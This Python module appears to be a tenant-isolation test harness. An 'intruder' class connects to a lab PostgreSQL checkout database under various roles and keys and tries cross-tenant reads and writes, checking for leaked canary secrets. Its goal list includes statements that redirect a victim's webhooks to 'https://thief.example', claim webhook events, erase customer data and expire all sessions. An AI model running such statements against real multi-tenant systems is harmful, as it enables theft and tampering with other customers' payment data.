"""The attacker: a connection that reads everything that comes back, and uses every opening that it finds."""

import re

import psycopg2
from psycopg2.extensions import TRANSACTION_STATUS_IDLE, TRANSACTION_STATUS_INERROR

TENANTS = ["alpha live", "alpha test", "bravo live", "bravo test"]
# The attacker: the role of its connection, its API key, and the tenant whose rows it may see.
INTRUDERS = {
    "anonymous": ("web", None, None),
    "B's secret key": ("web", ("bravo live", "secret"), "bravo live"),
    "A's publishable key": ("web", ("alpha live", "publishable"), None),
    "B's role": ("shop_b", None, "bravo live"),
    "A's browser": ("browser_a", None, None),
    "plain": ("plain", None, None),
    "verifier": ("verifier", None, None),
    "authenticator": ("authenticator", None, None),
    # Not an intruder, but a caller that can get what the others want: it proves that there is something to get.
    "A's role": ("shop_a", None, None),
}
# SQL that never ran as intended is no attack: syntax errors, unknown names and types, a failed transaction.
BLUNDERS = set(
    "42601 42703 42883 42P01 42P02 42P18 42704 42804 42846 25P01 25P02 26000 34000 3F000 42P13 3B001".split()
)
# From 16 on the server itself refuses it with XX000.
HAS_NO_MEMBERS = 'role "pg_database_owner" cannot have explicit members'
# date, time, timestamp, timestamptz, interval.
AS_TEXT = psycopg2.extensions.new_type((1082, 1083, 1114, 1184, 1186), "AS_TEXT", lambda value, _: value)


def as_called_here(statement, connection):
    """A statement in which a setting has the name that it has had since 16."""
    if connection.server_version >= 16_00_00:
        return statement.replace("force_parallel_mode", "debug_parallel_query")
    return statement


class Intruder:
    def __init__(self, lab, who):
        self.lab, self.who = lab, who
        self.role, key, self.own = INTRUDERS[who]
        self.key = lab.keys[key] if key else None
        self.victim, self.home = lab.targets["alpha live"], lab.targets["bravo live"]
        self.heard, self.said, self.blunders, self.found = [], [], [], []
        self.connection = None
        self.last_code = None
        self.come()

    def come(self, **options):
        """Connects, or connects anew. The server may refuse it."""
        self.leave()
        options = {"dbname": "lab", "user": self.role, **options}
        try:
            self.connection = psycopg2.connect(host=str(self.lab.server.dir), port=54321, **options)
            self.connection.autocommit = True
            # As the server writes them, in whichever style an attack has chosen.
            psycopg2.extensions.register_type(AS_TEXT, self.connection)
        except psycopg2.Error as refused:
            self.heard.append(str(refused))
            # An unknown role, or one with a password: any refusal will do, and the attack continues under its previous
            # role.
            if options != {"dbname": "lab", "user": self.role}:
                self.come()

    def leave(self):
        if self.connection is not None:
            self.heard += self.connection.notices
            self.connection.close()

    def fill_in(self, text):
        """Fills in the placeholders of an attack: the victim, the attacker, and the attacker's own data."""
        words = {
            "VICTIM": self.victim["organization_id"],
            "HOME": self.home["organization_id"],
            "ROLE": self.role,
            "OWN": f"own_{self.role}",
            "SESSION": self.victim["open"],
        }
        return re.sub(r"\$(VICTIM|HOME|ROLE|OWN|SESSION)\b", lambda match: words[match[1]], text)

    def raw(self, statement, *parameters, expected=()):
        """Runs one statement. Returns its rows, or None for an error."""
        statement = self.fill_in(statement)
        self.said += [parameter for parameter in parameters if "canary" in str(parameter)]
        with self.connection.cursor() as cursor:
            try:
                if " TO STDOUT" in statement:
                    cursor.copy_expert(statement, self)
                    return []
                cursor.execute(as_called_here(statement, cursor.connection), parameters or None)
                rows = cursor.fetchall() if cursor.description else []
                self.last_code = None
            except psycopg2.Error as error:
                self.hear(error)
                self.last_code = error.pgcode
                if error.pgcode in BLUNDERS and error.pgcode not in expected:
                    self.blunders.append(f"{statement[:200]}: {error}".strip())
                return None
        self.heard += [readable(value) for row in rows for value in row]
        return rows

    def write(self, text):
        """Receives the output of COPY."""
        self.heard.append(text if isinstance(text, str) else text.decode(errors="replace"))

    def hear(self, error):
        parts = (
            [
                error.diag.message_primary,
                error.diag.message_detail,
                error.diag.message_hint,
                error.diag.context,
                error.diag.internal_query,
            ]
            if error.pgcode
            else []
        )
        self.heard += [str(error), *filter(None, parts)]
        if HAS_NO_MEMBERS in str(error):
            return
        if (
            isinstance(error, psycopg2.OperationalError)
            and error.pgcode is None
            or (error.pgcode or "").startswith(("XX", "57P"))
        ):
            self.found.append(f"a backend broke down: {error}")

    def do(self, statement, *parameters, expected=()):
        """Runs one statement without making the current transaction fail."""
        if not self.in_transaction() or statement in ("COMMIT", "ROLLBACK"):
            return self.raw(statement, *parameters, expected=expected)
        self.raw("SAVEPOINT before_statement")
        rows = self.raw(statement, *parameters, expected=expected)
        failed = self.connection.info.transaction_status == TRANSACTION_STATUS_INERROR
        self.raw(f"{'ROLLBACK TO' if failed else 'RELEASE'} before_statement")
        return rows

    def in_transaction(self):
        return self.connection.info.transaction_status != TRANSACTION_STATUS_IDLE

    def present_key(self, key=None):
        """Presents its API key, in a transaction that continues."""
        if not self.in_transaction():
            self.raw("BEGIN")
        return self.do("SELECT * FROM checkout.authenticate(%s)", key or self.key)

    def request(self, headers=None, claims=None, local=True):
        """Sends an HTTP request as PostgREST would, in a transaction that continues."""
        if not self.in_transaction():
            self.raw("BEGIN")
        for name, value in [("request.headers", headers), ("request.jwt.claims", claims)]:
            if value is not None:
                self.do("SELECT set_config(%s, %s, %s)", name, value, local)
        self.do("SELECT checkout.pre_request()")

    def loot(self, target=None, few=False):
        """Tries to get or change everything of a tenant; or only a few things."""
        target = target or self.victim
        answer = self.do("SELECT checkout.current_organization_id(), checkout.current_environment()")
        if answer:
            self.found += [
                f"acts for {tenant}"
                for tenant, other in self.lab.targets.items()
                if answer[0] == (other["organization_id"], other["environment"]) and not self.is_of(tenant)
            ]
        for statement, *parameters in list(goals(target))[: 4 if few else None]:
            self.do(statement, *parameters)

    def is_of(self, tenant):
        key = INTRUDERS[self.who][1]
        return tenant in (self.own, key and key[0]) or self.who == "A's browser" and tenant == "alpha live"

    def organizations(self):
        return {tenant.split()[0] for tenant in TENANTS if self.is_of(tenant)}

    def breaches(self):
        text = "\n".join(self.heard)
        # An echo is no secret, but the other columns of a row found by a guessed value are.
        for word in sorted(filter(None, self.said), key=len, reverse=True):
            text = text.replace(str(word), "(said)")
        for tenant in TENANTS:
            if tenant != self.own:
                for secret in self.lab.secrets[tenant]:
                    # The name and URL of its own organization are no secret to it.
                    if secret in text and not any(secret == f"canary_{name}_" for name in self.organizations()):
                        yield f"heard {secret} of {tenant}: ...{text[max(0, text.index(secret) - 60):][:160]}..."
        yield from self.found


def readable(value):
    return bytes(value).hex() if isinstance(value, (bytes, memoryview)) else str(value)


def goals(target):
    """The statements that get or change a tenant's data, with their parameters. None of them contains its canary."""
    yield ("SELECT * FROM checkout.list_checkout_sessions(page_size => 100)",)
    yield "SELECT * FROM checkout.get_checkout_session(%s)", target["open"]
    yield "SELECT * FROM checkout.expire_checkout_session(%s)", target["open"]
    yield ("SELECT * FROM checkout.create_checkout_session(amount => 10, currency_code => 'USD', customer_id => 'c1')",)
    yield ("SELECT * FROM checkout.list_checkout_sessions(status => 'complete', created_after => '2020-01-01')",)
    yield ("SELECT * FROM checkout.list_webhook_events(page_size => 100)",)
    yield "SELECT * FROM checkout.list_webhook_events(%s)", target["complete"]
    yield ("SELECT * FROM checkout.session_funnel()",)
    yield "SELECT * FROM checkout.list_payments(%s)", target["complete"]
    yield "SELECT * FROM checkout.begin_payment(%s, 'p1')", target["open"]
    yield "SELECT * FROM checkout.record_payment(%s, 'p1', 'failed')", target["open"]
    yield ("SELECT * FROM checkout.list_payments()",)
    yield "SELECT * FROM checkout.recover_checkout_session(%s)", target["expired"]
    yield ("SELECT * FROM checkout.list_webhook_endpoints()",)
    yield "SELECT * FROM checkout.list_webhook_deliveries(%s, page_size => 100)", target["endpoint"]
    yield "SELECT * FROM checkout.list_webhook_attempts(%s)", target["event"]
    yield "SELECT * FROM checkout.update_webhook_endpoint(%s, url => 'https://thief.example')", target["endpoint"]
    yield "SELECT * FROM checkout.roll_webhook_secret(%s)", target["endpoint"]
    yield ("SELECT * FROM checkout.create_webhook_endpoint('https://thief.example')",)
    yield "SELECT * FROM checkout.delete_webhook_endpoint(%s, discard_undelivered => true)", target["endpoint"]
    yield ("SELECT * FROM checkout.list_webhook_consumers()",)
    yield ("SELECT * FROM checkout.create_webhook_consumer('thief')",)
    yield "SELECT * FROM checkout.claim_webhook_events(%s, 1000)", target["consumer"]
    yield "SELECT checkout.redeliver_webhook_events(ARRAY[%s])", target["event"]
    yield "SELECT checkout.redeliver_webhook_events(webhook_endpoint_id => %s)", target["endpoint"]
    yield "SELECT * FROM checkout.delete_webhook_consumer(%s, discard_undelivered => true)", target["consumer"]
    yield ("SELECT * FROM checkout.list_products()",)
    yield ("SELECT * FROM checkout.list_prices('mug')",)
    yield ("SELECT * FROM checkout.list_coupons()",)
    yield ("SELECT * FROM checkout.coupon_performance()",)
    yield ("SELECT * FROM checkout.list_subscriptions()",)
    yield "SELECT * FROM checkout.get_subscription(%s)", target["subscription"]
    yield "SELECT * FROM checkout.cancel_subscription(%s)", target["subscription"]
    yield "SELECT * FROM checkout.resume_subscription(%s)", target["subscription"]
    yield ("SELECT * FROM checkout.update_product('mug', active => false)",)
    yield ("SELECT * FROM checkout.adjust_inventory('mug', -1)",)
    yield ("SELECT * FROM checkout.update_price('mug-usd', active => false)",)
    yield ("SELECT * FROM checkout.create_product('thief')",)
    yield ("SELECT * FROM checkout.create_price('mug', 'USD', 0, is_default => true)",)
    yield ("SELECT * FROM checkout.create_coupon('thief', 100)",)
    yield "SELECT * FROM checkout.list_session_lines(%s)", target["sold"]
    yield "SELECT * FROM checkout.set_quantity(%s, quantity => 2)", target["sold"]
    yield "SELECT * FROM checkout.apply_coupon(%s, code => 'TEN')", target["sold"]
    yield "SELECT * FROM checkout.remove_coupon(%s)", target["sold"]
    yield "SELECT * FROM checkout.set_billing_address(%s, address => '{\"country\": \"SN\"}')", target["sold"]
    yield ("SELECT * FROM checkout.products",)
    yield ("SELECT * FROM checkout.prices",)
    yield ("SELECT * FROM checkout.coupons",)
    yield ("SELECT * FROM checkout.inventory_changes",)
    yield ("SELECT * FROM checkout.session_lines",)
    yield ("SELECT * FROM checkout.session_terms",)
    yield ("SELECT * FROM checkout.session_visits",)
    yield ("SELECT * FROM checkout.subscriptions",)
    yield ("SELECT * FROM checkout.session_periods",)
    yield ("SELECT * FROM checkout.hook_failures",)
    yield ("SELECT * FROM checkout.admin_log",)
    yield ("SELECT * FROM checkout.request_failures",)
    yield ("SELECT * FROM checkout.export_customer(customer_email => 'Everyone@shop.example')",)
    yield ("SELECT * FROM checkout.erase_customer(customer_email => 'everyone@shop.example')",)
    yield ("SELECT * FROM checkout.checkout_sessions",)
    yield ("SELECT * FROM checkout.open_checkout_sessions",)
    yield ("SELECT * FROM checkout.payments",)
    yield ("SELECT * FROM checkout.webhook_deliveries",)
    yield ("SELECT * FROM checkout.webhook_endpoints",)
    yield ("SELECT * FROM checkout_data.checkout_sessions",)
    yield ("UPDATE checkout_data.checkout_sessions SET status = 'expired'",)
